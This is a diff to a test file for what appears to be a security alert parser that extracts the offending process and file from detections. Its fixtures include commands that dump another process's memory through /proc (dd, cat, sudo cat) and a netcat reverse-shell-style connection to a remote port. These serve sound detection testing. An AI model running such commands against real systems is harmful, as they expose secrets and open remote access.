@@ -27,6 +27,43 @@ describe('of several processes the one that did it', () => {
     expect(detection.process?.executable).toBe('/usr/bin/docker');
   });
 
+  test.each<[string, JsonObject[], string | undefined, number]>([
+    [
+      'where the agent says nothing of it',
+      [bash, { pid: '11', exe: '/usr/bin/dd', arguments: ['dd', 'if=/proc/77/mem'] }],
+      '/proc/77/mem',
+      11,
+    ],
+    [
+      'in one text',
+      [bash, { pid: '11', exe: '/usr/bin/dd', arguments: 'dd if=/proc/77/task/78/mem of=x' }],
+      '/proc/77/task/78/mem',
+      11,
+    ],
+    [
+      'and not who started it',
+      [
+        { pid: '11', exe: '/usr/bin/sudo', arguments: ['sudo', 'cat', '/proc/77/mem'] },
+        { pid: '12', exe: '/usr/bin/cat', arguments: ['cat', '/proc/77/mem'] },
+        bash,
+      ],
+      '/proc/77/mem',
+      12,
+    ],
+    [
+      'and no other file of a process',
+      [bash, { pid: '11', exe: '/usr/bin/cat', arguments: ['cat', '/proc/77/mem.txt'] }],
+      undefined,
+      10,
+    ],
+  ])('reads the memory, %s', (_, process_events, path, pid) => {
+    for (const id of ['Runner-Worker-Memory-Read', 'Suspicious-Process-Call']) {
+      const { file, process } = read(payloadOf(id, { process_events }), shipped);
+      expect([file?.path, process?.pid]).toEqual([path, pid]);
+    }
+    expect(read(payloadOf('Privileged-Container', { process_events })).file).toBeUndefined();
+  });
+
   it('connects', () => {
     const nc = { pid: '11', exe: '/usr/bin/nc', arguments: ['nc', '203.0.113.9', '4444'] };
     const { endpoint, process } = read(payloadOf('Reverse-Shell', { process_events: [bash, nc] }));
@@ -52,6 +89,13 @@ describe('arguments begin with the program', () => {
     ['/bin/nc', ['203.0.113.9', '4444']],
     ['/usr/bin/curl', ['-s', 'https://a.example']],
     [String.raw`C:\tools\ncat.exe`, ['203.0.113.9', '4444']],
+    // A part of a name, or more than one, is no name.
+    ['/usr/bin/python3', ['python3-exploit.py']],
+    ['/usr/bin/curl', ['rl']],
+    ['/usr/bin/node', ['no']],
+    ['/usr/bin/docker-compose', ['compose', 'up']],
+    ['/usr/bin/sh', ['sh.txt']],
+    ['/usr/bin/python3', ['']],
   ])('which the agent left out: %s %j', (exe, args) => {
     expect(argsOf(exe, ...args)).toEqual([exe, ...args]);
   });
@@ -63,6 +107,12 @@ describe('arguments begin with the program', () => {
     ['/usr/bin/dash', ['sh', '-c', 'x']],
     ['/usr/bin/bash', ['-bash']],
     ['/usr/bin/mawk', ['awk', '{}']],
+    ['/usr/bin/ncat', ['nc', 'h', '1']],
+    ['/usr/bin/nc.openbsd', ['netcat', 'h', '1']],
+    ['/usr/bin/nodejs', ['node', 'x.js']],
+    ['/usr/bin/python', ['python3.11', 'x.py']],
+    ['/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', 'x.c']],
+    [String.raw`C:\tools\nc64.exe`, ['nc', 'h', '1']],
     ['/bin/busybox', ['wget', 'x']],
     ['/opt/app', ['/opt/app', 'x']],
     [String.raw`C:\Windows\System32\cmd.exe`, ['cmd', '/c', 'x']],
